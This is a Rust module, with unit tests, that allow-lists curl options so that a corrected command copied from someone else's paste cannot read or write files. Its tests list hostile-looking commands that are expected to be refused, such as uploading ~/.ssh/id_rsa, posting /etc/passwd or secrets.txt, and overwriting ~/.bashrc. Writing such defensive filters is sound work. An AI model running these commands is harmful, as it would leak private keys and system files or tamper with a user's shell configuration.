//! Which curl commands a corrected snippet may offer: every option on an allow-list of options
//! that only shape the request and what curl prints (`-X`, `-H`, `-d` with inline data, `-s`,
//! `-v`, timeouts…). An option that reads or writes a file (`-o`, `-O`, `-T`, `-K`, `-D`, `-c`,
//! `-b`, `-F`, `-w`, `--trace`, `--libcurl`, a data or header argument starting with `@`) or
//! that curl does not know here makes the command not offered: a corrected command copied from
//! someone else's paste (a share link) would otherwise write over a file or send one away.
//! The command is read after [`super::runs_only_itself`] passed: no substitution or operator.

/// Short options without an argument that only change what is printed or how it is sent.
const SHORT_FLAGS: &[u8] = b"sSviNLkfGI46";
/// Short options with an argument that only shape the request.
const SHORT_WITH_ARG: &[(u8, &str)] = &[
    (b'X', "request"),
    (b'H', "header"),
    (b'd', "data"),
    (b'u', "user"),
    (b'm', "max-time"),
    (b'x', "proxy"),
    (b'A', "user-agent"),
    (b'e', "referer"),
];
const LONG_FLAGS: &[&str] = &[
    "silent",
    "show-error",
    "verbose",
    "include",
    "no-buffer",
    "location",
    "insecure",
    "fail",
    "fail-with-body",
    "get",
    "head",
    "compressed",
    "http1.1",
    "http2",
    "http2-prior-knowledge",
    "ipv4",
    "ipv6",
    "no-progress-meter",
    "globoff",
];
const LONG_WITH_ARG: &[&str] = &[
    "request",
    "header",
    "data",
    "data-raw",
    "data-binary",
    "data-ascii",
    "data-urlencode",
    "json",
    "user",
    "max-time",
    "connect-timeout",
    "url",
    "oauth2-bearer",
    "proxy",
    "user-agent",
    "referer",
    "retry",
    "retry-delay",
    "retry-max-time",
    "max-redirs",
];

/// Whether every option of the curl command in `line` (continuations already joined) is one
/// that neither reads nor writes a file.
pub(super) fn options_safe(line: &str) -> bool {
    let words = words(line);
    let Some(first) = words.iter().position(|w| {
        let w = w.to_ascii_lowercase();
        w == "curl" || w == "curl.exe" || w.ends_with("/curl") || w.ends_with("\\curl.exe")
    }) else {
        return false;
    };
    let mut i = first + 1;
    while i < words.len() {
        let w = &words[i];
        i += 1;
        if let Some(long) = w.strip_prefix("--") {
            let (name, inline) = match long.split_once('=') {
                Some((n, v)) => (n, Some(v)),
                None => (long, None),
            };
            if LONG_FLAGS.contains(&name) && inline.is_none() {
                continue;
            }
            if !LONG_WITH_ARG.contains(&name) {
                return false;
            }
            if !option_safe(name, inline, &words, &mut i) {
                return false;
            }
            continue;
        }
        let Some(cluster) = w.strip_prefix('-').filter(|c| !c.is_empty()) else {
            continue; // a URL
        };
        for (k, c) in cluster.bytes().enumerate() {
            if SHORT_FLAGS.contains(&c) {
                continue;
            }
            let Some((_, name)) = SHORT_WITH_ARG.iter().find(|(s, _)| *s == c) else {
                return false;
            };
            let rest = cluster.get(k + 1..).filter(|r| !r.is_empty());
            if !option_safe(name, rest, &words, &mut i) {
                return false;
            }
            break;
        }
    }
    true
}

/// Whether option `name`'s argument is safe: `inline` (`--name=value`, `-Hvalue`) or the next
/// word, which `i` then moves past. An option missing its argument is not.
fn option_safe(name: &str, inline: Option<&str>, words: &[String], i: &mut usize) -> bool {
    let arg = match inline {
        Some(v) => v,
        None => {
            *i += 1;
            match words.get(*i - 1) {
                Some(a) => a.as_str(),
                None => return false,
            }
        }
    };
    arg_safe(name, arg)
}

/// An argument that names no file: `@file` reads one for data, JSON and headers
/// (`--data-raw` takes `@` literally).
fn arg_safe(name: &str, arg: &str) -> bool {
    match name {
        "data" | "data-binary" | "data-ascii" | "json" | "header" => !arg.starts_with('@'),
        // `name@file` and `@file` read a file.
        "data-urlencode" => !arg.contains('@'),
        _ => true,
    }
}

/// The command's words: blanks separate them outside quotes; quotes are removed and a
/// backslash outside single quotes keeps the next character.
fn words(line: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut q: Option<char> = None;
    let mut cs = line.chars();
    while let Some(c) = cs.next() {
        match (q, c) {
            (Some('\''), '\'') | (Some('"'), '"') => q = None,
            (Some('"') | None, '\\') => {
                if let Some(n) = cs.next() {
                    cur.push(n);
                }
                in_word = true;
            }
            (Some(_), c) => cur.push(c),
            (None, '\'' | '"') => {
                q = Some(c);
                in_word = true;
            }
            (None, c) if c.is_whitespace() => {
                if in_word {
                    out.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            (None, c) => {
                cur.push(c);
                in_word = true;
            }
        }
    }
    if in_word {
        out.push(cur);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::options_safe;

    #[test]
    fn request_shaping_options_are_kept() {
        for ok in [
            "curl https://h/v1/chat/completions -H 'Authorization: Bearer sk-x' -d '{\"a\":1}'",
            "curl -sS -X POST \"https://h/v1\" -H \"Content-Type: application/json\" --data-raw '@not-a-file'",
            "curl -XPOST -sSL --max-time 30 --url https://h/v1 --json '{\"m\":\"q\"}'",
            "curl.exe -s https://h/v1 -H \"x-api-key: k\" -d \"{\\\"a\\\":1}\"",
            "curl --header=X-A:1 --retry 3 -m 10 https://h",
        ] {
            assert!(options_safe(ok), "{ok}");
        }
    }

    #[test]
    fn options_that_read_or_write_files_are_refused() {
        for bad in [
            "curl https://h -o /tmp/x",
            "curl -sSo ~/.bashrc https://h",
            "curl -O https://h/a.sh",
            "curl -T ~/.ssh/id_rsa https://h",
            "curl https://h -d @/etc/passwd",
            "curl https://h --data-binary @secrets.txt",
            "curl https://h --json @body.json",
            "curl https://h -H @headers.txt",
            "curl https://h -F 'f=@/etc/passwd'",
            "curl -K cfg https://h",
            "curl --config cfg https://h",
            "curl https://h -D headers.txt",
            "curl https://h -c jar.txt",
            "curl https://h -b jar.txt",
            "curl https://h -w '%output{x}'",
            "curl https://h --trace t.log",
            "curl https://h --output=x",
            "curl https://h --data-urlencode name@file",
            "curl https://h -d",
            "curl https://h --unknown-option",
            "wget https://h",
        ] {
            assert!(!options_safe(bad), "{bad}");
        }
    }
}
